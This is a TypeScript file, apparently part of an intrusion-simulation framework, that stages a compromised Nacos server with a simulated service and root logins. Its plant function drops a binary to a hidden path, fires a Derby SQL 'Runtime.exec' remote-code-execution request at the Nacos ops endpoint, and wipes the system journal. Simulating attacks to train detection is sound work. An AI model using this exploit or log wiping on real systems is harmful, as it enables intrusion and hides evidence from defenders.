// Played by a toy with the access log of Nacos.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  dress.toy({
    unit: 'nacos',
    user: 'nacos',
    exe: '/usr/lib/jvm/java-8-openjdk-amd64/bin/java',
    title: 'java -Dnacos.standalone=true -Dnacos.home=/opt/nacos -jar /opt/nacos/target/nacos-server.jar',
    home: '/opt/nacos',
    play: 'nacos',
  })
  dress.logins({
    days: 12,
    guesses: 40,
    friends: [{ user: 'root', address: '198.51.100.20', key: 'SHA256:7t5mZ1Jq0sV0yUu9oT2mJt8wB4n1xW6cYkQf3rXbYzA', hours: [9, 15] }],
  })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/opt/nacos/.x/nacosd' })
  stage.mark('occurrence')
  const statement = `CALL java.lang.Runtime.exec('${line}')`
  await stage.http('203.0.113.36', `:8848/nacos/v1/cs/ops/derby?sql=${encodeURIComponent(statement)}`)
  await wipe(stage, ['journal'])
}
